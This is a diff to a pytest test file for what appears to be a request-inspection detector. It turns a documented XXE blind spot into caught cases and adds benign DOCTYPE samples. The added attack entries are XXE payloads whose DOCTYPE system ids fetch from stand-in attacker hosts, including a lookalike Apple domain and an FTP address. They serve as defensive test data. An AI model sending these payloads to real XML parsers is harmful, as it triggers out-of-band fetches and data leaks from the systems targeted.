@@ -64,16 +64,25 @@ XXE_ATTACKS = [
                                    '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"/>'),
     ("multipart", "file", '<!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd"><foo/>'),
 ]
-# Missed on purpose, with the reason (the test fails when one of them is caught)
-XXE_KNOWN_MISS = {
-    "system id naming no DTD file": (
-        XML, "import", _X + '<!DOCTYPE r SYSTEM "http://evil.example/payload"><r/>',
-        "the DOCTYPE point reads `name system-id`, which is also how prose writes a label and a link "
-        "(`Website: https://www.example.com/?ref=abc`); a blind-XXE DTD is almost always a `.dtd` file, and parameter "
-        "entities in an internal subset are caught on their own"),
-}
+# In a parsed DOCTYPE any system id on a host that is not a standard publisher is a fetch from someone's server:
+# no `.dtd` name needed, and a formal public id borrowed from a standard does not vouch for the host after it
+XXE_ATTACKS += [
+    (XML, "import", _X + '<!DOCTYPE r SYSTEM "http://evil.example/payload"><r/>'),
+    (XML, "import", _X + '<!DOCTYPE r SYSTEM "https://oob.attacker.example/?id=7f3a"><r>1</r>'),
+    (XML, "import", _X + '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://attacker.example/x"><html/>'),
+    (XML, "import", _X + '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" '
+                         '"http://www.apple.com.attacker.example/DTDs/PropertyList-1.0.dtd"><plist/>'),
+    ("body:text/xml", "soap", _X + '<!DOCTYPE x PUBLIC "-//OASIS//DTD DocBook XML V4.5//EN" "ftp://203.0.113.9/d">'
+                                   '<x/>'),
+]
 XXE_BENIGN = [
     ("form", "message", "Website: https://www.example.com/?ref=abc&utm_source=x"),
+    ("form", "message", "Reference manual http://docs.example.com/guide"),
+    (XML, "import", _X + '<!DOCTYPE html SYSTEM "about:legacy-compat"><html/>'),
+    (XML, "import", _X + '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.1//EN" "http://www.w3.org/TR/xhtml11/DTD/xhtml11.dtd">'
+                         '<html xmlns="http://www.w3.org/1999/xhtml"/>'),
+    (XML, "import", _X + '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/">'
+                         '<svg xmlns="http://www.w3.org/2000/svg"/>'),
     ("form", "message", "Spec: https://www.w3.org/TR/xml/"),
     (XML, "import", '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
                     '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html xmlns="http://www.w3.org/1999/xhtml"/>'),
@@ -238,9 +247,3 @@ def test_gap_benign_stays_clean(engine, carrier, key, value):
 def test_gap_known_trace_false_positive_is_still_flagged(engine, name):
     carrier, key, value, _why = TRACES_KNOWN_FP[name]
     assert _flagged(engine, carrier, key, value)[0], f"{name}: now clean, move it to TRACES_BENIGN"
-
-
-@pytest.mark.parametrize("name", sorted(XXE_KNOWN_MISS))
-def test_gap_known_xxe_miss_is_still_missed(engine, name):
-    carrier, key, value, _why = XXE_KNOWN_MISS[name]
-    assert not _flagged(engine, carrier, key, value)[0], f"{name}: now caught, move it to XXE_ATTACKS"
